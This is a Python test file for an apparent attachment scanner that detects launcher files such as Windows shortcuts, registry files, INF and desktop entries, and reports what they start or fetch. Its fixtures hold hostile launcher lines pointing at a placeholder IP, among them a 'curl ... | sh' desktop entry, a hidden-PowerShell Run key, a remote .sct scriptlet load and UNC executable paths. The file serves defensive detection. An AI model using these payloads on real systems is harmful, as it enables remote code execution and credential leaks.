"""Launchers: the finding says what is started or fetched."""

from __future__ import annotations

import pytest

from attachguard.formats.program import launchers
from attachguard.limits import Budget, Limits
from attachguard.part import Part
from attachguard.types.filetypes import filetype
from tests.fixtures.launchers import SAMPLES


def found(kind, data):
    part = Part(f"a.{kind}", data, role="attachment", budget=Budget(Limits()))
    part.load()
    part.types = [filetype(kind)]
    return [(fact.code, fact.detail) for fact in launchers.inspect(part)]


@pytest.mark.parametrize(
    ("sample", "kind", "expected"),
    [
        ("link/seite.url", "url", [
            ("script-content", "Internet shortcut: https://www.example.org/"),
            ("external-reference", "Internet shortcut: https://www.example.org/"),
        ]),
        ("network/seite.url", "url", [
            ("script-content", "Internet shortcut: file://198.51.100.7/x/a.exe"),
            ("external-reference", "Internet shortcut: file://198.51.100.7/x/a.exe"),
            ("external-reference", r"Internet shortcut: \\198.51.100.7\x\a.ico"),
        ]),
        ("icon/ordner.scf", "scf", [
            ("script-content", "Explorer command: 2"),
            ("script-content", "Explorer command: ToggleDesktop"),
            ("external-reference", r"Explorer command: \\198.51.100.7\x\a.ico"),
        ]),
        ("entry/programm.desktop", "desktop", [("script-content", "Desktop entry: sh -c 'curl http://198.51.100.7/a | sh'")]),
        ("query/abfrage.iqy", "iqy", [
            ("script-content", "Office web query: https://198.51.100.7/a.dat"),
            ("external-reference", "Office web query: https://198.51.100.7/a.dat"),
        ]),
        ("key/start.reg", "reg", [("script-content", 'Registry entries: sets Run: "x"="powershell -w hidden"')]),
        ("library/bilder.library-ms", "library-ms", [
            ("script-content", r"Windows library: \\198.51.100.7\x"),
            ("external-reference", r"Windows library: \\198.51.100.7\x"),
        ]),
        ("settings/a.settingcontent-ms", "settingcontent-ms", [
            ("script-content", r"Windows settings shortcut: %windir%\system32\cmd.exe /c calc.exe"),
        ]),
        ("location/seite.webloc", "webloc", [("script-content", "MacOS internet location: file:///System/Applications/Calculator.app")]),
        ("sandbox/a.wsb", "wsb", [
            ("script-content", r"Windows Sandbox settings: C:\Users"),
            ("script-content", r"Windows Sandbox settings: cmd /c start \\198.51.100.7\x\a.exe"),
        ]),
        ("host/start.wsh", "wsh", [
            ("script-content", r"Windows Script Host settings: \\198.51.100.7\x\a.vbs"),
            ("external-reference", r"Windows Script Host settings: \\198.51.100.7\x\a.vbs"),
        ]),
        ("installer/a.appinstaller", "appinstaller", [
            ("script-content", "Windows app installer file: https://198.51.100.7/a.msixbundle"),
            ("external-reference", "Windows app installer file: https://198.51.100.7/a.msixbundle"),
        ]),
        ("remote/arbeitsplatz.rdp", "rdp", [
            ("script-content", "Remote desktop connection: 198.51.100.7"),
            ("script-content", "Remote desktop connection: shares clipboard, drives"),
            ("external-reference", "Remote desktop connection: 198.51.100.7"),
        ]),
    ],
)  # fmt: skip
def test_the_target_is_the_detail(sample, kind, expected):
    assert found(kind, SAMPLES[sample]()) == expected


@pytest.mark.parametrize(
    ("kind", "data", "target"),
    [
        ("search-ms", b'<persistedQuery><query><scope><include path="\\\\198.51.100.7\\x"/></scope></query></persistedQuery>', r"\\198.51.100.7\x"),
        ("theme", b"[Control Panel\\Desktop]\r\nWallpaper=\\\\198.51.100.7\\x.jpg\r\n", r"\\198.51.100.7\x.jpg"),
        ("jnlp", b'<jnlp spec="1.0+" codebase="https://198.51.100.7/"><resources/></jnlp>', "https://198.51.100.7/"),
        ("appref-ms", "\ufeffhttps://198.51.100.7/a.application#a, Culture=neutral".encode("utf-16-le"), "https://198.51.100.7/a.application"),
        ("inf", b"[DefaultInstall]\r\nUnRegisterOCXs=x\r\n[xSection]\r\n%11%\\scrobj.dll,NI,http://198.51.100.7/a.sct\r\n", "http://198.51.100.7/a.sct"),
    ],
)  # fmt: skip
def test_a_host_in_it_is_a_reference(kind, data, target):
    assert target in [detail.partition(": ")[2] for code, detail in found(kind, data) if code == "external-reference"]


def test_a_theme_with_local_paths_only_names_nothing():
    assert found("theme", b"[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\web\\img0.jpg\r\n") == []


def test_a_binary_property_list_named_as_a_location_is_one(bare_scan):
    data = b"bplist00\xd1\x01\x02SURL_\x10\x19smb://198.51.100.7/x/a.app\x08\x0b\x0f" + bytes(32)
    report = bare_scan(data, "seite.inetloc")
    assert report.parts[0].type.id == "webloc"
    assert {"script-content", "external-reference"} <= {finding.code for finding in report.findings}
    assert bare_scan(data, "a.plist").parts[0].type.id == "plist"


def test_long_and_unprintable_targets_are_cut():
    ((_, detail),) = found("desktop", b"Exec=\x1b[2J" + b"a" * 500)
    assert len(detail) < 110
    assert detail.isprintable()


@pytest.mark.parametrize(
    ("sample", "kind"),
    [
        ("profile/wlan.mobileconfig", "mobileconfig"), ("profile/ohne-endung", "mobileconfig"), ("terminal/fenster.terminal", "terminal"),
        ("connection/daten.odc", "odc-data"), ("connection/daten.udl", "udl"), ("connection/bildschirm.remmina", "remote"),
        ("connection/netz.ovpn", "vpn"), ("source/programm.flatpakref", "source"), ("settings/netz.ins", "profile"),
        ("settings/pruefung.diagcfg", "setup"), ("location/platte.afploc", "webloc"), ("anywhere/seite.url", "url"),
        ("truncated/wlan.mobileconfig", "mobileconfig"),
    ],
)  # fmt: skip
def test_settings_that_install_run_or_connect_are_launchers(bare_scan, sample, kind):
    report = bare_scan(SAMPLES[sample](), sample.rpartition("/")[2])
    assert report.parts[0].type.id == kind
    assert "script-content" in {finding.code for finding in report.findings}


@pytest.mark.parametrize("sample", ["lookalike/schrift.prf", "lookalike/stelle.xml", "lookalike/einstellungen.plist"])
def test_what_only_has_such_a_name_or_root_is_none(bare_scan, sample):
    assert bare_scan(SAMPLES[sample](), sample.rpartition("/")[2]).findings == ()


def test_a_signed_profile_is_one(bare_scan):
    data = bytes.fromhex("3082010006092a864886f70d010702a0") + b"<key>PayloadType</key>" + bytes(200)
    assert "script-content" in {finding.code for finding in bare_scan(data, "a.mobileconfig").findings}
